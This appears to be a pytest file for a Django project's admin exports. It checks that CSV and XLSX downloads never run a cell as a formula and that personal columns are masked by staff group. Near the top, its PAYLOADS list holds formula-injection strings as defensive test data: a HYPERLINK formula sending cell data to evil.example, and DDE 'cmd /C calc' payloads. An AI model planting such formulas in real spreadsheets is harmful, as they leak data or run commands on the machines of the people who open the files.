"""Every export, CSV and XLSX: a spreadsheet never runs a cell as a formula, and personal
columns come out in full only for the groups whose job needs them.

Records of every model are made, then every text field of every record is overwritten with
a value a spreadsheet would run (= + - @ tab CR, as OWASP lists them); phones start with +.
"""

import csv
import io
import itertools
import re
from decimal import Decimal, InvalidOperation

import pytest
from django.apps import apps
from django.contrib import admin
from django.db import IntegrityError, models, transaction
from django.urls import reverse
from openpyxl import load_workbook

from apps.core.exports import (
    ExportStats,
    ModelExport,
    csv_chunks,
    datasets,
    export_for_model,
    write_xlsx,
)
from apps.donations.models import Donation
from tests.admin.conftest import MAKERS

from .conftest import AUDITORS, EDITORS, FINANCE, TRAINING

AREAS = ("core", "organizations", "honors", "aed", "training", "donations", "boai")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

MARK = "·"
# Datasets without a text column that a record's text reaches.
NUMBERS_ONLY = {"trainees-by-year", "boai-criterionscore"}

# Every dataset, and the generic one each admin list without its own class falls back to.
EXPORTS = datasets()
CLASS_MODELS = {export_class.model for export_class in EXPORTS.values()}
FALLBACK_MODELS = sorted(
    (
        model
        for model in admin.site._registry
        if model._meta.app_label in AREAS and model not in CLASS_MODELS
    ),
    key=lambda model: model._meta.label_lower,
)


def all_exports():
    return [export_class() for export_class in EXPORTS.values()] + [
        ModelExport(model) for model in FALLBACK_MODELS
    ]


def export_ids():
    return [export.name for export in all_exports()]


def is_number(text):
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def text_fields(model):
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and not field.primary_key
    ]


@pytest.fixture(scope="module")
def hostile_records(django_db_setup, django_db_blocker):
    """One record of every model in the admin (and what it needs), every text field hostile.

    Built once for the module and rolled back after it.
    """
    with django_db_blocker.unblock(), transaction.atomic():
        _make_hostile_records()
        yield
        transaction.set_rollback(True)


def _make_hostile_records():
    for label, make in MAKERS.items():
        if label.split(".")[0] in AREAS:
            make()
    payloads = itertools.cycle(PAYLOADS)
    for model in apps.get_models():
        if model._meta.app_label not in AREAS or model.__name__.startswith("Historical"):
            continue
        for pk in model._default_manager.values_list("pk", flat=True):
            for field in text_fields(model):
                if re.search("phone", field.name):
                    value = f"+86139{pk:08d}"
                else:
                    value = f"{next(payloads)}{MARK}{pk}"
                value = value[: field.max_length] if field.max_length else value
                try:
                    with transaction.atomic():
                        model._default_manager.filter(pk=pk).update(**{field.name: value})
                except IntegrityError:
                    pass  # a field whose format a constraint fixes stays as it was
    first, *others = Donation.objects.order_by("pk")
    Donation.objects.filter(pk=first.pk).update(is_anonymous=True)
    Donation.objects.filter(pk__in=[d.pk for d in others]).update(is_anonymous=False)


def csv_rows(export, *, mask):
    stats = ExportStats(sorted(export.money_columns))
    data = b"".join(csv_chunks(export, export.iter_rows(mask=mask), stats))
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_rows(export, *, mask):
    buffer = io.BytesIO()
    write_xlsx(
        export, export.iter_rows(mask=mask), ExportStats(sorted(export.money_columns)), buffer
    )
    sheet = load_workbook(buffer).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_every_admin_list_has_an_export():
    exported = CLASS_MODELS | set(FALLBACK_MODELS)
    registered = {model for model in admin.site._registry if model._meta.app_label in AREAS}
    assert registered <= exported


@pytest.mark.parametrize("export", all_exports(), ids=export_ids())
@pytest.mark.parametrize("mask", [True, False], ids=["masked", "full"])
def test_no_cell_of_any_export_is_run_as_a_formula(db, hostile_records, export, mask):
    for rows in (csv_rows(export, mask=mask), xlsx_rows(export, mask=mask)):
        body = rows[1:]
        if not body and export.name.startswith("figure-"):
            # A figure's download holds only the records its definition counts, which the
            # made records need not meet; it goes through the same writer as the others.
            continue
        assert len(body) > 0, "the export has rows to check"
        cells = [cell for row in rows for cell in row if isinstance(cell, str)]
        dangerous = [c for c in cells if c.startswith(DANGEROUS) and not is_number(c)]
        assert dangerous == []
        # The hostile values did reach the file, each neutralised by a leading apostrophe.
        payload = [c for c in cells if MARK in c]
        assert all(c.startswith("'") and c[1:2] in (*DANGEROUS, "\n") for c in payload)
        assert bool(payload) == (export.name not in NUMBERS_ONLY)


@pytest.mark.parametrize("model", FALLBACK_MODELS, ids=lambda m: m._meta.label_lower)
def test_the_generic_export_leaves_personal_fields_out(model):
    export = export_for_model(model)
    assert isinstance(export, ModelExport)
    for key in export.keys:
        assert not re.search("phone|address|contact|id_number|digest", key)


PERSONAL_GROUPS = {EDITORS: False, TRAINING: True, FINANCE: True, AUDITORS: False}
PERSONAL_EXPORTS = [e for e in all_exports() if e.personal_columns]


@pytest.mark.parametrize("group", list(PERSONAL_GROUPS))
@pytest.mark.parametrize("export", PERSONAL_EXPORTS, ids=[e.name for e in PERSONAL_EXPORTS])
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_personal_columns_follow_the_group(
    client, login_staff, hostile_records, group, export, file_format
):
    user = login_staff(group)
    response = client.get(reverse("admin:core_exportlog_dataset", args=[export.name, file_format]))
    if not export.has_permission(user):
        assert response.status_code == 403
        return
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    else:
        sheet = load_workbook(io.BytesIO(data)).active
        rows = [["" if c.value is None else str(c.value) for c in row] for row in sheet.iter_rows()]
    positions = [i for i, key in enumerate(export.keys) if key in export.personal_columns]

    def personal(rows):
        # XLSX keeps a CR inside a cell as a line feed.
        return [[str(row[i]).replace("\r", "\n") for i in positions] for row in rows]

    full = csv_rows(export, mask=False)[1:]
    masked = csv_rows(export, mask=True)[1:]
    got = personal(rows[1:])
    assert got == personal(full if PERSONAL_GROUPS[group] else masked)

    # Whatever the group may not see appears nowhere in its file.
    if not PERSONAL_GROUPS[group]:
        hidden = {
            value
            for full_row, masked_row in zip(personal(full), personal(masked), strict=True)
            for value, shown in zip(full_row, masked_row, strict=True)
            if value != shown
        }
        assert hidden, "the masked columns hold something to hide"
        everything = "\n".join(",".join(str(cell) for cell in row) for row in rows)
        for value in hidden:
            assert value.lstrip("'") not in everything, value
